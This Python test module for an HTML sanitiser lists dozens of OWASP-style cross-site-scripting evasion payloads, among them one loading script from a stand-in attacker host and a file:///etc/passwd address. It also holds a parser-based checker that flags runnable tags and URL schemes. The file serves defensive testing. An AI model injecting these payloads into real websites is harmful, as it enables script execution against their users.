"""Script-injection attempts, one per family of OWASP's XSS filter-evasion cheat sheet.

Every vector that would run calls ``xss(N)``; the browser test defines ``xss`` to record
N, so "nothing ran" is a fact it observes, not an assumption. ``dangers_in`` is an
independent check (Python's HTML parser, not nh3) for markup that could run script.
"""

import re
from html.parser import HTMLParser

# For rich text: markup of every kind.
MARKUP_VECTORS = [
    "<script>xss(1)</script>",
    "<SCRIPT SRC=//attacker.invalid/xss.js></SCRIPT>",
    '<IMG SRC="javascript:xss(3);">',
    "<IMG SRC=JaVaScRiPt:xss(4)>",
    "<IMG SRC=`javascript:xss(5)`>",
    '<a href="jav&#x09;ascript:xss(6)">tab entity</a>',
    '<a href="jav&#x0A;ascript:xss(7)">newline entity</a>',
    '<a href=" &#14;  javascript:xss(8)">leading spaces</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss(9)">dec</a>',
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;xss(10)">hex</a>',
    '<img src=x onerror="xss(11)">',
    "<svg/onload=xss(12)>",
    "<svg><script>xss(13)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss(14)></style></mglyph>",
    "<body onload=xss(15)>",
    '<iframe src="javascript:xss(16)"></iframe>',
    '<iframe srcdoc="<script>parent.xss(17)</script>"></iframe>',
    '<object data="javascript:xss(18)"></object>',
    '<embed src="data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKDE5KTwvc2NyaXB0Pg==">',
    '<a href="data:text/html;base64,PHNjcmlwdD54c3MoMjApPC9zY3JpcHQ+">data link</a>',
    '<a href="vbscript:xss(21)">vbscript</a>',
    '<div style="background-image: url(javascript:xss(22))">style url</div>',
    '<div style="width: expression(xss(23));">expression</div>',
    "<style>@import 'javascript:xss(24)';</style>",
    '<meta http-equiv="refresh" content="0;url=javascript:xss(25)">',
    '<base href="javascript:xss(26)//">',
    '<form action="javascript:xss(27)"><button formaction="javascript:xss(27)">go</button></form>',
    "<input onfocus=xss(28) autofocus>",
    "<details open ontoggle=xss(29)>toggle</details>",
    "<<SCRIPT>xss(30);//<</SCRIPT>",
    '<IMG """><SCRIPT>xss(31)</SCRIPT>">',
    '<a href="javascript&colon;xss(32)">named entity</a>',
    '<video><source onerror="xss(33)"></video>',
    "<marquee onstart=xss(34)>marquee</marquee>",
    '<link rel="stylesheet" href="javascript:xss(35)">',
    '"><script>xss(36)</script>',
    "</title><script>xss(37)</script>",
    '<a href="java\0script:xss(38)">null byte</a>',
    '<a href="JAVASCRIPT:xss(39)">upper case</a>',
    "<![CDATA[<script>xss(40)</script>]]>",
    '<a href="#" onclick="xss(41)">onclick</a>',
    "<x-custom onclick=xss(42)>custom element</x-custom>",
    '<img src="x`<script>xss(43)</script>"`>',
    '</script><script type="application/ld+json">{"x":"</script><script>xss(44)</script>"}',
    '<a href="javascript://%0Axss(45)">comment and newline</a>',
    '<noscript><p title="</noscript><img src=x onerror=xss(46)>"></noscript>',
]

# For URL fields: addresses a browser would run, with the tricks browsers forgive.
ADDRESS_VECTORS = [
    "javascript:xss(101)",
    "JaVaScRiPt:xss(102)",
    " javascript:xss(103)",
    "java\tscript:xss(104)",
    "java\nscript:xss(105)",
    "\x01javascript:xss(106)",
    "data:text/html,<script>xss(107)</script>",
    "vbscript:xss(108)",
    "javascript://%0Axss(109)",
    "jav&#x09;ascript:xss(110)",
    "file:///etc/passwd",
]

# For plain fields (titles, names, messages), shown as text and in attributes.
TEXT_VECTORS = [
    '"><script>xss(201)</script>',
    "'><img src=x onerror=xss(202)>",
    "</title><script>xss(203)</script>",
    '</script><script>xss(204)</script>{"@context":"x"}',
    "<svg/onload=xss(205)>",
]

ALLOWED_SCHEMES = {"https", "http", "mailto", "tel"}
RUNNABLE_TAGS = {
    "script",
    "iframe",
    "object",
    "embed",
    "svg",
    "math",
    "style",
    "meta",
    "base",
    "form",
    "link",
    "frame",
    "frameset",
    "applet",
}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"}
_SCHEME = re.compile(r"^([a-z][a-z0-9+.-]*):")


class _DangerFinder(HTMLParser):
    def __init__(self, allowed_tags):
        super().__init__(convert_charrefs=True)
        self.allowed_tags = allowed_tags
        self.dangers = []

    def handle_starttag(self, tag, attrs):
        if tag in RUNNABLE_TAGS and tag not in self.allowed_tags and not _is_data_block(tag, attrs):
            self.dangers.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "http-equiv"}:
                self.dangers.append(f"{tag} {name}=")
            elif name in URL_ATTRIBUTES and value:
                # Stricter than a browser: drop every control character and space.
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                match = _SCHEME.match(squeezed)
                if match and match[1] not in ALLOWED_SCHEMES:
                    self.dangers.append(f"{tag} {name}={value!r}")


def _is_data_block(tag, attrs):
    """A JSON-LD block: browsers never run it. Stored text that closed it early would start
    another <script>, which is then reported."""
    return tag == "script" and attrs == [("type", "application/ld+json")]


def dangers_in(html, allowed_tags=()):
    """Everything in ``html`` that could run script; [] when there is none."""
    finder = _DangerFinder(set(allowed_tags))
    finder.feed(str(html))
    finder.close()
    return finder.dangers


def without_the_layouts_search_box(html):
    """The page less the header's own search form (the first ``role="search"`` form, which
    comes before any stored text), so a form that stored text smuggled in still shows."""
    return re.sub(r'<form\b[^>]*role="search".*?</form>', "", str(html), count=1, flags=re.S)


def all_markup():
    return "\n".join(f"<p>Sample text {n}.</p>{v}" for n, v in enumerate(MARKUP_VECTORS))
